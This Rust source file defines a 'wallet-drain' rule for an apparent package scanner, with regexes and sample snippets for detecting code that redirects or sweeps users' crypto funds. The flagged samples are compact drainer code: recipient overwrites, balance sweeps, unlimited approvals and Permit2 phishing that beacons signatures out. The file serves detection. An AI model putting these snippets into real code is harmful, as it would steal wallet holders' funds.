//! Rule `wallet-drain`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, all_text, code_files, is_doc_path};

crate::declare_rule! {
    /// Transactions redirected to an address fixed in the code: a wrapper around a wallet's
    /// `request` that overwrites the recipient (`params[0].to = "0x…"`) of
    /// `eth_sendTransaction`, or a transfer to a hard-coded address of an amount computed from
    /// the victim's balance (a sweep), or an unlimited token permit (`eth_signTypedData`, amount
    /// 2^160-1 or 2^256-1) signed for a spender written in the code (Permit2 phishing), or the
    /// same through `eth_sendTransaction`: the native balance read just before sent to a fixed
    /// address, or an unlimited ERC-20 `approve` for a fixed spender. Wallet SDKs send where
    /// their caller says.
    id: "wallet-drain",
    category: Crypto,
    severity: Critical,
    capability: Some(crate::model::Capability::WalletAccess),
    title: "sends the user's funds to an address fixed in the code",
    incident: "@ledgerhq/connect-kit 1.1.7 (2023) rewrote transactions; solana-transaction-toolkit (2025) swept 98% of balances",
    case_file: "index.js",
    flag: ["const R = '0x2222222222222222222222222222222222222222'; p.request = async (a) => { if (a.method === 'eth_sendTransaction') a.params[0].to = R; return o(a) }",
           "n.request = async a => { if (a.method === 'eth_sendTransaction') { a.params[0].to = '0x1111111111111111111111111111111111111111' } return r(a) }",
           "const SP = '0x3333333333333333333333333333333333333333'; const msg = { details: [{ token: t, amount: '0xffffffffffffffffffffffffffffffffffffffff' }], spender: SP }; rq({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify({ primaryType: 'PermitBatch', message: msg })] }).then((s) => navigator.sendBeacon(u, s))",
           "var SP = '0x5555555555555555555555555555555555555555'; async function go(eth) { var [a] = await eth.request({ method: 'eth_requestAccounts' }); var b = await eth.request({ method: 'eth_getBalance', params: [a, 'latest'] }); await eth.request({ method: 'eth_sendTransaction', params: [{ from: a, to: SP, value: '0x' + (BigInt(b) - 10n ** 15n).toString(16) }] }) }",
           "const SPENDER = '0x6666666666666666666666666666666666666666'; const MAX = 'ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'; for (const t of tokens) await w.request({ method: 'eth_sendTransaction', params: [{ from, to: t, data: '0x095ea7b3' + SPENDER.slice(2).padStart(64, '0') + MAX }] })",
           "const V = new PublicKey('9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin'); const b = await c.getBalance(k.publicKey); SystemProgram.transfer({ fromPubkey: k.publicKey, toPubkey: V, lamports: Math.floor(b * 0.98) })"],
    pass: ["if (value.to && getBigInt(value.to) === BN_0) { value.to = '0x0000000000000000000000000000000000000000' } // eth_sendTransaction",
           "provider.request({ method: 'eth_sendTransaction', params: [{ from, to: recipient, value }] })",
           "SystemProgram.transfer({ fromPubkey: k.publicKey, toPubkey: new PublicKey(to), lamports })",
           "async function max(eth, a, to) { const b = await eth.request({ method: 'eth_getBalance', params: [a, 'latest'] }); return eth.request({ method: 'eth_sendTransaction', params: [{ from: a, to: to, value: b }] }) }",
           "const TIP = '0x7777777777777777777777777777777777777777'; async function tip(eth, a) { await eth.request({ method: 'eth_sendTransaction', params: [{ from: a, to: TIP, value: '0x2386f26fc10000' }] }) }",
           "const MAX = 'ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'; function approveAll(eth, from, token, spender) { return eth.request({ method: 'eth_sendTransaction', params: [{ from, to: token, data: '0x095ea7b3' + spender.slice(2).padStart(64, '0') + MAX }] }) }",
           "export function permit(owner, spender, token) { const msg = { details: { token, amount: MaxUint160 }, spender }; return provider.request({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify({ primaryType: 'PermitSingle', message: msg })] }) }",
           "const ROUTER = '0x4444444444444444444444444444444444444444'; const msg = { details: { token, amount: value }, spender: ROUTER }; provider.request({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify(msg)] })"],
}

fn check(pkg: &Package, out: &mut Emitter) {
    let rewrite = crate::regex!(
        r#"\.to\s*=\s*['"`]0x[0-9a-fA-F]{40}['"`]|\[\s*['"]to['"]\s*\]\s*=\s*['"`]0x[0-9a-fA-F]{40}['"`]"#
    );
    let balance = crate::regex!(r"getBalance\(|eth_getBalance|\.balance\b");
    let fixed_key = crate::regex!(
        r#"(?:const|let|var)\s+(\w+)\s*=\s*new\s+PublicKey\(\s*['"`][1-9A-HJ-NP-Za-km-z]{32,44}['"`]\s*\)"#
    );
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let text = all_text(f);
        if !crate::mentions!(
            text,
            [
                "eth_sendtransaction",
                "publickey",
                "transfer",
                "eth_signtypeddata"
            ]
        ) {
            continue;
        }
        // The overwrite must sit in code that handles eth_sendTransaction (a request wrapper),
        // and the address must be somebody's: setting the null address normalises a field.
        let near_send = |at: usize| {
            let from = text.floor_char_boundary(at.saturating_sub(400));
            text[from..at].contains("eth_sendTransaction")
        };
        let redirect = rewrite
            .find_iter(text)
            .find(|m| near_send(m.start()) && !m.as_str().contains(&"0".repeat(40)))
            .map(|m| m.start())
            .or_else(|| {
                // The same through a constant: `const R = "0x…"; … a.params[0].to = R`.
                let consts = crate::regex!(
                    r#"(?:const|let|var)\s+(\w+)\s*=\s*['"`](0x[0-9a-fA-F]{40})['"`]"#
                );
                consts.captures_iter(text).find_map(|c| {
                    if c[2].contains(&"0".repeat(40)) {
                        return None;
                    }
                    [
                        format!(".to = {};", &c[1]),
                        format!(".to={};", &c[1]),
                        format!(".to={}}}", &c[1]),
                    ]
                    .iter()
                    .filter_map(|a| text.find(a.as_str()))
                    .find(|at| near_send(*at))
                })
            });
        if let Some(start) = redirect {
            let off = f.text_off(start, 0);
            out.hit_sev(
                Severity::Critical,
                pkg,
                f,
                off,
                "overwrites the recipient of the user's transactions with a fixed address",
            );
            continue;
        }
        if let Some(off) = fixed_unlimited_permit(text) {
            let off = f.text_off(off, 0);
            out.hit_sev(
                Severity::Critical,
                pkg,
                f,
                off,
                "asks the wallet to sign an unlimited token permit for a spender fixed in the code",
            );
            continue;
        }
        if let Some(off) = fixed_evm_sweep(text) {
            let off = f.text_off(off, 0);
            out.hit_sev(
                Severity::Critical,
                pkg,
                f,
                off,
                "sends the wallet's balance or an unlimited token approval to an address fixed in the code",
            );
            continue;
        }
        if !balance.is_match(text) {
            continue;
        }
        for c in fixed_key.captures_iter(text) {
            let var = &c[1];
            let to = format!("toPubkey: {var}");
            let to2 = format!("toPubkey:{var}");
            if (text.contains(&to) || text.contains(&to2)) && text.contains("transfer") {
                let off = c.get(0).map_or(0, |m| m.start());
                let off = f.text_off(off, 0);
                out.hit_sev(
                    Severity::Critical,
                    pkg,
                    f,
                    off,
                    "transfers the wallet's balance to an address fixed in the code",
                );
                break;
            }
        }
    }
}

/// Where the code asks the wallet to sign (`eth_signTypedData`) an unlimited token permit
/// (`amount` 2^160-1 or 2^256-1) whose spender is an address written in the code, literally or
/// through a constant: Permit2 phishing. Permit libraries take the spender from their caller.
fn fixed_unlimited_permit(text: &str) -> Option<usize> {
    if !text.contains("eth_signTypedData") {
        return None;
    }
    let unlimited = crate::regex!(
        r"\b0x[fF]{40,}\b|\bMaxUint(?:256|160)\b|\bMAX_UINT(?:256|160)\b|\b2n\s*\*\*\s*(?:256|160)n"
    );
    if !unlimited.is_match(text) {
        return None;
    }
    let consts = crate::regex!(r#"(?:const|let|var)\s+(\w+)\s*=\s*['"`](0x[0-9a-fA-F]{40})['"`]"#);
    let spender = crate::regex!(
        r#"\bspender['"]?\s*:\s*(?:['"`](0x[0-9a-fA-F]{40})['"`]|([A-Za-z_$][\w$]*)\b)"#
    );
    let somebody = |a: &str| !a.contains(&"0".repeat(40));
    spender.captures_iter(text).find_map(|c| {
        let fixed = match (c.get(1), c.get(2)) {
            (Some(a), _) => somebody(a.as_str()),
            (None, Some(id)) => consts
                .captures_iter(text)
                .any(|k| &k[1] == id.as_str() && somebody(&k[2])),
            _ => false,
        };
        fixed.then(|| c.get(0).map_or(0, |m| m.start()))
    })
}

/// Where the code asks the wallet (`eth_sendTransaction`) to move the user's funds to an address
/// written in the code, literally or through a constant: a native transfer whose amount is read
/// from the balance (`eth_getBalance` shortly before: a sweep), or an ERC-20 `approve`
/// (selector `0x095ea7b3`) of an unlimited amount for that address. A dapp sends where its user
/// says, and a tip jar sends a chosen amount.
fn fixed_evm_sweep(text: &str) -> Option<usize> {
    if !text.contains("eth_sendTransaction") {
        return None;
    }
    let consts = crate::regex!(r#"(?:const|let|var)\s+(\w+)\s*=\s*['"`](0x[0-9a-fA-F]{40})['"`]"#);
    let somebody = |a: &str| !a.contains(&"0".repeat(40));
    let fixed = |tok: &str| {
        let tok = tok.trim_matches(['\'', '"', '`']);
        if tok.starts_with("0x") {
            return tok.len() == 42 && somebody(tok);
        }
        consts
            .captures_iter(text)
            .any(|k| &k[1] == tok && somebody(&k[2]))
    };
    let window = |from: usize, to: usize| {
        let a = text.floor_char_boundary(from);
        let b = text.floor_char_boundary(to.min(text.len()));
        &text[a..b]
    };
    // A sweep: `to: FIXED` in a transaction built next to a balance read.
    let to = crate::regex!(r#"\bto['"]?\s*:\s*(['"`]0x[0-9a-fA-F]{40}['"`]|[A-Za-z_$][\w$]*)"#);
    for c in to.captures_iter(text).take(64) {
        let (Some(m), Some(t)) = (c.get(0), c.get(1)) else {
            continue;
        };
        let before = window(m.start().saturating_sub(600), m.start());
        if before.contains("eth_sendTransaction")
            && before.contains("getBalance")
            && fixed(t.as_str())
        {
            return Some(m.start());
        }
    }
    // An unlimited approval: the approve selector, then the fixed spender, then 2^256-1.
    let unlimited = crate::regex!(r"\b(?:0x)?[fF]{64}\b|\bMaxUint256\b|\bMAX_UINT256\b");
    let approve = crate::regex!(
        r#"['"`]0x095ea7b3['"`]?\s*\+\s*(?:[\w$.]+\(\s*)?([A-Za-z_$][\w$]*|['"`]0x[0-9a-fA-F]{40}['"`])"#
    );
    for c in approve.captures_iter(text).take(16) {
        let (Some(m), Some(sp)) = (c.get(0), c.get(1)) else {
            continue;
        };
        let near = window(m.start(), m.end() + 80);
        let max_named =
            crate::regex!(r#"(?:const|let|var)\s+(\w+)\s*=\s*['"`](?:0x)?[fF]{64}['"`]"#)
                .captures_iter(text)
                .any(|k| near.contains(&k[1]));
        if fixed(sp.as_str()) && (unlimited.is_match(near) || max_named) {
            return Some(m.start());
        }
    }
    None
}
